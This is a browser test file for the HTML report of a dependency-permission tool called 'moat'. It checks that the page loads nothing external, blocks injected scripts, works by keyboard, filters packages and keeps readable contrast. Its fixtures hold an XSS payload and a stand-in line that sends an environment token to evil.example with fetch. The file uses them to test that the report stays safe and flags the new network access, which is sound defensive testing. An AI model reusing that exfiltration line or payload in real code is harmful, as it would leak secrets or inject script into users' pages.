/** The page of `moat report` in a real Chromium: what it loads, what it runs, keys, filters, dark, 1,500 packages. */
import { mkdtempSync, realpathSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { pathToFileURL } from "node:url";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { readPageFile } from "../../packages/cli/src/page-file.ts";
import { reportHtml } from "../../packages/cli/src/render/report-html.ts";
import type { Report } from "../../packages/cli/src/report/report.ts";
import { makeProject, type Project } from "../cli/project-fixture.ts";
import { findChromium, openPage, type BrowserPage } from "./chromium.mjs";
import { makeLargeTree } from "./large-tree.ts";

const chromium = findChromium();
if (chromium === undefined)
  console.warn("SKIPPED: no Chromium on the path (or in MOAT_CHROMIUM), so the page of moat report is not opened");

const EVIL = `</script><img src=x onerror="document.title='owned'"><script>document.title='owned'</script>`;

describe.skipIf(chromium === undefined)("the page in Chromium", () => {
  const folder = realpathSync(mkdtempSync(path.join(tmpdir(), "moat-report-")));
  const write = (name: string, report: Report): string => {
    const file = path.join(folder, name);
    const parts = { style: readPageFile("report.css"), script: readPageFile("report.js"), version: "0.0.0" };
    writeFileSync(file, reportHtml(report, parts));
    return pathToFileURL(file).href;
  };
  const shown = `[...document.querySelectorAll(".package")].filter((item) => !item.hidden).map((item) => item.dataset.name)`;
  const count = `document.querySelector("#count").textContent`;
  const click = (selector: string): string => `document.querySelector(${JSON.stringify(selector)}).click()`;
  let page: BrowserPage;
  beforeAll(async () => {
    page = await openPage(chromium!);
  });
  afterAll(async () => {
    await page?.close();
    rmSync(folder, { recursive: true, force: true });
  });

  describe("of a project, written by the command", () => {
    let project: Project;
    let url: string;
    beforeAll(async () => {
      project = makeProject({
        ".gitignore": "node_modules",
        "package.json": JSON.stringify({ name: "app", version: "1.0.0", dependencies: { a: "1.0.0", b: "1.0.0" } }),
        "index.js": `require("a"); require("b");`,
        "node_modules/a/package.json": JSON.stringify({ name: "a", version: "1.0.0", dependencies: { c: "1.0.0" } }),
        "node_modules/a/index.js": `require("c"); exports.read = () => require("fs").readFileSync("x"); /* ${EVIL} */`,
        "node_modules/a/node_modules/c/package.json": JSON.stringify({ name: "c", version: "3.0.0" }),
        "node_modules/a/node_modules/c/index.js": "module.exports = 1;",
        "node_modules/b/package.json": JSON.stringify({ name: "b", version: "2.0.0" }),
        "node_modules/b/index.js": "module.exports = 1;",
      });
      expect(project.moat("policy", "--write", "index.js").code).toBe(0);
      for (const args of [
        ["init", "-q"],
        ["add", "."],
        ["commit", "-q", "-m", "base"],
      ])
        expect(project.git(...args).code).toBe(0);
      project.write({
        "node_modules/b/index.js": `fetch("https://evil.example/", { body: process.env.TOKEN }); /* ${EVIL} */`,
      });
      expect(project.moat("policy", "--write").code).toBe(0);
      expect(project.moat("report")).toMatchObject({
        code: 0,
        stdout:
          "moat-report.html is written: 3 packages. Since HEAD: 1 package wants more than before, and is denied it until somebody accepts it.\n",
      });
      url = pathToFileURL(path.join(project.folder, "moat-report.html")).href;
    });
    afterAll(() => project.dispose());

    test("asks for nothing but itself, and has no error; code of packages stays text", async () => {
      await page.goto(url);
      expect(page.seen.requests.filter((one) => one !== url)).toEqual([]);
      expect(page.seen.logged).toEqual([]);
      expect(await page.evaluate("document.title")).toBe("app: what each package may do");
      expect(await page.evaluate(`document.querySelectorAll("img, script, iframe, [onerror]").length`)).toBe(1);
      expect(await page.evaluate(`document.querySelector("#p1").textContent`)).toContain(EVIL.slice(0, 40));
    });

    test("the browser refuses scripts and markup that are not moat's", async () => {
      await page.goto(url);
      expect(await page.evaluate(`try { document.body.innerHTML = "<b>"; "made" } catch (error) { error.name }`)).toBe(
        "TypeError",
      );
      const ran = `new Promise((resolve) => { const own = document.createElement("script"); own.append("document.title='owned'"); document.body.append(own); setTimeout(() => resolve(document.title), 50); })`;
      expect(await page.evaluate(ran).catch((error: Error) => error.name)).not.toBe("owned");
      expect(await page.evaluate(`fetch("data:,x").then(() => "answered", (error) => error.name)`)).toBe("TypeError");
      expect(await page.evaluate("document.title")).toBe("app: what each package may do");
    });

    test("by keyboard alone: from the first tab to the evidence of a package, and back", async () => {
      await page.goto(url);
      const focused = `(document.activeElement.dataset.power ?? document.activeElement.id) || document.activeElement.textContent.trim().replace(/\\s+/g, " ")`;
      await page.press("Tab");
      expect(await page.evaluate(focused)).toBe("Skip to the packages");
      await page.press("Enter");
      expect(await page.evaluate(focused)).toBe("packages");
      await page.press("Tab");
      expect(await page.evaluate(focused)).toBe("search");
      await page.press("ArrowDown");
      expect(await page.evaluate(focused)).toContain("b 2.0.0");
      const outline = `getComputedStyle(document.activeElement).outlineStyle + getComputedStyle(document.activeElement).outlineWidth`;
      expect(await page.evaluate(outline)).toBe("solid3px");
      await page.press("Enter");
      expect(await page.evaluate(`document.activeElement.parentElement.open`)).toBe(true);
      expect(await page.evaluate(`document.querySelector("#p1 .body").innerText`)).toContain("index.js:1");
      await page.press("ArrowDown");
      expect(await page.evaluate(focused)).toContain("a 1.0.0");
      await page.press("/");
      await page.type("c 3.0");
      expect(await page.evaluate(shown)).toEqual(["a>c"]);
      expect(await page.evaluate(count)).toBe("1 of 3 packages");
      await page.press("Escape");
      expect(await page.evaluate(count)).toBe("3 packages");
    });

    test("each control has a name, and says whether it is pressed", async () => {
      await page.goto(url);
      const nameless = `[...document.querySelectorAll("button, input, select, a, summary")].filter((one) => !(one.textContent.trim() || one.labels?.[0]?.textContent.trim())).length`;
      expect(await page.evaluate(nameless)).toBe(0);
      await page.evaluate(click(".tile.network"));
      expect(await page.evaluate(`document.querySelector(".tile.network").ariaPressed`)).toBe("true");
      expect(await page.evaluate(shown)).toEqual(["b"]);
      await page.evaluate(click(".tile.read"));
      expect(await page.evaluate(shown)).toEqual([]);
      expect(await page.evaluate(`document.querySelector("#none").checkVisibility()`)).toBe(true);
      await page.evaluate(click("#clear"));
      await page.evaluate(click(".chip.pending"));
      expect(await page.evaluate(shown)).toEqual(["b"]);
    });

    test("a link to a package opens it, also where it was filtered out", async () => {
      await page.goto(url);
      await page.evaluate(click(".tile.read"));
      await page.evaluate(`document.querySelector("#changes ~ article a").click()`);
      await page.evaluate("new Promise((resolve) => setTimeout(resolve, 100))");
      expect(await page.evaluate(`document.querySelector("#p1 details").open`)).toBe(true);
      expect(await page.evaluate(count)).toBe("3 packages");
    });

    test("without script everything is there, and nothing that would not work", async () => {
      await page.emulate({ script: false });
      try {
        await page.goto(url);
        expect(await page.evaluate(`document.querySelector("#toolbar").checkVisibility()`)).toBe(false);
        expect(await page.evaluate(`document.querySelectorAll("button:enabled").length`)).toBe(
          await page.evaluate(`document.querySelectorAll("#toolbar button").length`),
        );
        expect(await page.evaluate(`document.querySelector("#p1 .body").textContent`)).toContain("evil.example");
      } finally {
        await page.emulate({ script: true });
      }
    });
  });

  describe("of 1,500 packages", () => {
    let url: string;
    beforeAll(() => {
      url = write("large.html", makeLargeTree(1500));
    });

    test("opens and filters quickly", async () => {
      await page.goto(url);
      expect(await page.evaluate(count)).toBe("1500 packages");
      // Layout included. 10 to 30 ms each on a machine with nothing else to do; a step that is quadratic takes seconds.
      const timed = (action: string): Promise<number> =>
        page.evaluate(
          `(() => { const start = performance.now(); ${action}; document.body.offsetHeight; return performance.now() - start; })()`,
        );
      const ready = await page.evaluate(`performance.getEntriesByType("navigation")[0].domContentLoadedEventEnd`);
      const filtered = await timed(click(".tile.network"));
      const searched = await timed(
        `const search = document.querySelector("#search"); search.value = "https.request"; search.dispatchEvent(new Event("input"))`,
      );
      expect(await page.evaluate(count)).toMatch(/^\d+ of 1500 packages$/u);
      const reordered = await timed(
        `const order = document.querySelector("#order"); order.value = "tree"; order.dispatchEvent(new Event("change"))`,
      );
      expect(ready).toBeLessThan(10_000);
      for (const took of [filtered, searched, reordered]) expect(took).toBeLessThan(1_500);
    });

    test("as a tree, a package stands before what came in by it", async () => {
      await page.goto(url);
      await page.evaluate(
        `{ const order = document.querySelector("#order"); order.value = "tree"; order.dispatchEvent(new Event("change")) }`,
      );
      const names: string[] = await page.evaluate(shown);
      const at = new Map(names.map((name, index) => [name, index]));
      expect(names).toHaveLength(1500);
      for (const name of names) {
        const parent = name.slice(0, Math.max(0, name.lastIndexOf(">")));
        if (at.has(parent)) expect(at.get(parent)!).toBeLessThan(at.get(name)!);
      }
    });

    test.each([false, true])("text can be read (dark: %s)", async (dark) => {
      await page.emulate({ dark });
      await page.goto(url);
      await page.evaluate(click("#p1 summary"));
      const ratios: [string, number][] = await page.evaluate(`(${contrasts})()`);
      expect(ratios.length).toBeGreaterThan(20);
      expect(ratios.filter(([, ratio]) => ratio < 4.5)).toEqual([]);
      const paper: string = await page.evaluate("getComputedStyle(document.body).backgroundColor");
      expect(paper).toBe(dark ? "rgb(18, 22, 29)" : "rgb(246, 247, 249)");
      await page.emulate({ dark: false });
    });
  });
});

/** In the page: by class, the contrast of text to what it stands on, by WCAG 2. */
const contrasts = `() => {
  const luminance = (color) => {
    const [r, g, b] = color.match(/[\\d.]+/g).slice(0, 3).map((value) => {
      const part = value / 255;
      return part <= 0.04045 ? part / 12.92 : ((part + 0.055) / 1.055) ** 2.4;
    });
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  const paperOf = (element) => {
    for (let at = element; at; at = at.parentElement) {
      const { backgroundColor } = getComputedStyle(at);
      if (!/, 0\\)$/.test(backgroundColor)) return backgroundColor;
    }
    return "rgb(255, 255, 255)";
  };
  const found = new Map();
  for (const element of document.querySelectorAll("header *, .tile, .tile *, .card *, #toolbar *, .package:nth-child(-n+40) *, footer p")) {
    if (!element.checkVisibility() || ![...element.childNodes].some((node) => node.nodeType === 3 && node.data.trim())) continue;
    const [light, dark] = [luminance(getComputedStyle(element).color), luminance(paperOf(element))].toSorted((a, b) => b - a);
    found.set(element.localName + "." + element.className + " in " + element.parentElement.className, (light + 0.05) / (dark + 0.05));
  }
  return [...found];
}`;
